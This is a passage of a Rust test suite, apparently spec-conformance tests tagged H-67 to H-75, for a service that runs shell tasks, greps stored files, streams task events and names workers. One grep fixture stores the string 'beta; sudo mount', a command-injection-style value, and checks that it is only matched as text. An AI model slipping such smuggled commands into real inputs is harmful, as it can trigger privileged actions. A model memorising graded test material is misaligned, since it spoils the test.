    assert_eq!(victim.get("/api/tasks").expect(200)["total"], 0, "H-67");
}

#[test]
fn a_pattern_is_a_regular_expression() {
    let service = Service::start();
    let client = service.client();
    client.write("a: file.txt", "alpha\nbeta; sudo mount\n").expect(200);
    client.write("binary", "x\0needle\n").expect(200);
    let grep = |pattern: &str| client.query(&client.at("/files/grep"), &[("pattern", pattern)]);
    let found = grep("alpha|beta").expect(200);
    let expected = json!([
        { "file": "a: file.txt", "line": 1, "content": "alpha" },
        { "file": "a: file.txt", "line": 2, "content": "beta; sudo mount" },
    ]);
    assert_eq!(found["matches"], expected, "H-72");
    assert_eq!(grep("sudo").expect(200)["total"], 1, "H-72");
    grep("(").is(422, "E_INVALID_PATTERN");
    client
        .query(&client.at("/files/grep"), &[("pattern", "x"), ("path", "nothing")])
        .is(404, "E_NOT_FOUND");
}

#[test]
fn open_streams_take_nothing_from_others() {
    let service = Service::start();
    let client = service.client();
    let task = client.submit_command("sleep 300");
    client.until(&task, |task| task["status"] == "running");
    let streams: Vec<_> = (0..60).map(|_| client.open_events(&task)).collect();
    for _ in 0..3 {
        assert_eq!(
            client.done(&json!([{ "action": "shell", "command": "true" }]))["status"],
            "completed",
            "H-73"
        );
    }
    client.post(&format!("/api/tasks/{task}/cancel"), &json!({})).expect(200);
    for stream in streams {
        let text = stream.ended();
        assert!(text.contains(r#""status":"cancelled""#), "H-73: {text}");
    }
}

#[test]
fn no_two_workers_have_one_name() {
    let mut service = Service::start();
    let worker = |client: &Client| {
        let task = client.done(&json!([{ "action": "shell", "command": "true" }]));
        task["worker_id"].as_str().unwrap().to_owned()
    };
    let client = service.client();
    let other = Service::start();
    let names = [worker(&client), worker(&other.client())];
    service.kill();
    service.begin_again();
    let third = worker(&Client { address: service.address, ..client });
    assert!(names[0] != names[1] && !names.contains(&third), "H-75: {names:?} {third}");
}
